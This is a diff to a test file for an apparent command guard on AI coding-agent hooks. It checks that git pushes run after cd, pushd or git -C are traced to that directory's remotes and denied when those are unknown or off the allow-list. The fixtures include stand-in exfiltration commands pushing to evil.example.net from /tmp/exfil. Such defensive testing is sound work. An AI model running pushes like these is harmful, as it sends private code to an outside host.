@@ -1,7 +1,7 @@
 /** Paths relative to a directory the command changed into (`cd`, `pushd`) are checked where they point. */
 import { describe, expect, test } from "vitest";
-import { compilePolicy, defaultPolicyDocument } from "../src/index.js";
-import { decideBash } from "./hook-calls.js";
+import { compilePolicy, defaultPolicyDocument, gitRemoteDirs, parseHookInput } from "../src/index.js";
+import { decideBash, PROJECT_CWD } from "./hook-calls.js";
 
 const policy = compilePolicy(defaultPolicyDocument());
 const github = compilePolicy({ ...defaultPolicyDocument(), hosts: { allow: ["github.com"], deny: [], loopback: "allow" } });
@@ -57,7 +57,7 @@ describe("git remotes are resolved where git runs", () => {
     "cd vendor/lib && git push origin",
     "cd /tmp/exfil && gh pr create --fill",
   ])("%s", (command) => {
-    expect(push(command)).toMatchObject({ effect: "deny", rule: "destination.unknown", reason: expect.stringMatching(/git runs in `.+`, not in the directory whose remotes the guard resolved/) });
+    expect(push(command)).toMatchObject({ effect: "deny", rule: "destination.unknown", reason: expect.stringMatching(/git runs in `.+`, a directory whose remotes the guard could not resolve/) });
   });
   test("a push after popd back to the working directory uses its remotes; one before popd does not", () => {
     expect(push("pushd /tmp/exfil && git push origin; popd")).toMatchObject({ effect: "deny", rule: "destination.unknown" });
@@ -68,3 +68,44 @@ describe("git remotes are resolved where git runs", () => {
     expect(push(command).effect).toBe("allow");
   });
 });
+
+describe("git remotes resolved in the other directories git runs in (ctx.gitRemotesIn)", () => {
+  const table = (url: string) => ({ remotes: { origin: url }, pushRemotes: {}, defaults: ["origin"] });
+  // What the CLI resolves: the call's directory, plus each directory gitRemoteDirs lists
+  const remotes = {
+    ...ctx,
+    gitRemotes: { origin: "https://github.com/acme/app.git" },
+    gitDefaultRemotes: ["origin"],
+    gitRemotesIn: {
+      "/home/dev/project/packages/app": table("https://github.com/acme/app.git"),
+      "/home/dev/project/vendor/lib": table("https://evil.example.net/lib.git"),
+      "/home/dev/project/sub/.git": table("https://github.com/acme/sub.git"),
+      "/tmp/exfil": table("https://evil.example.net/x.git"),
+    },
+  };
+  const push = (command: string) => decideBash(github, command, remotes);
+  const call = (command: string) => {
+    const r = parseHookInput("claude-code", JSON.stringify({ session_id: "s", cwd: PROJECT_CWD, hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command } }));
+    if (!r.ok) throw new Error("unparsed");
+    return r.call;
+  };
+
+  test.each(["cd packages/app && git push", "cd packages/app && git push origin main", "cd /home/dev/project/packages/app/ && git fetch origin", "git -C packages/app push origin", "cd packages && cd app && git push", "git -C sub --git-dir=.git push origin", "cd sub && GIT_DIR=.git git push origin"])("%s: the remotes of that directory, allow-listed", (command) => {
+    expect(push(command).effect).toBe("allow");
+  });
+  test.each(["cd vendor/lib && git push origin", "git -C vendor/lib push", "cd /tmp/exfil && git push origin main", "git --git-dir=/tmp/exfil push origin", "cd packages/app && git push && cd ../../vendor/lib && git push"])("%s: that directory's remote is not allow-listed", (command) => {
+    expect(push(command)).toMatchObject({ effect: "deny", rule: "shell.git_write", reason: expect.stringContaining("`evil.example.net` is not on the allow-list") });
+  });
+  test.each(["cd docs && git push origin", "cd $X && git push", "cd \"$(mktemp -d)\" && git push origin", "git -C \"$DIR\" push origin", "cd sub* && git push", "git -C sub --git-dir=$G push origin"])("%s: a directory not resolved stays unknown", (command) => {
+    expect(push(command)).toMatchObject({ effect: "deny", rule: "destination.unknown" });
+  });
+  test("gitRemoteDirs lists each other directory git runs in, absolute, and nothing it cannot tell", () => {
+    expect(gitRemoteDirs(call("cd vendor/lib && git push origin && git -C /tmp/x/ fetch origin"))).toEqual(["/home/dev/project/vendor/lib", "/tmp/x"]);
+    expect(gitRemoteDirs(call("git -C sub --git-dir=.git push origin"))).toEqual(["/home/dev/project/sub/.git"]);
+    expect(gitRemoteDirs(call("cd ~/other && git push"), undefined, { homeDir: "/home/dev" })).toEqual(["/home/dev/other"]);
+    expect(gitRemoteDirs(call("git push origin && cd /home/dev/project && git fetch"))).toEqual([]);
+    expect(gitRemoteDirs(call("cd $X && git push; git -C \"$(pwd)/x\" push"))).toEqual([]);
+    expect(gitRemoteDirs(call("cd build && npm test"))).toEqual([]);
+  });
+});
+
